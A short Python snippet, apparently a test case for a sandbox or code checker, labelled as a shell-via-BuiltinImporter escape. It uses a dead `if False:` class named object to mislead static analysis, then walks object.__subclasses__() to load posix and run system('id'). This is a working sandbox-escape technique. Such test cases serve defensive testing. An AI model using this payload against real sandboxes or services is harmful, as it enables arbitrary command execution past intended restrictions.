# HARM: shell via BuiltinImporter | TRICK: `if False:` class named object; at runtime name resolves to builtins.object
if False:
    class object: pass
for k in object.__subclasses__():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
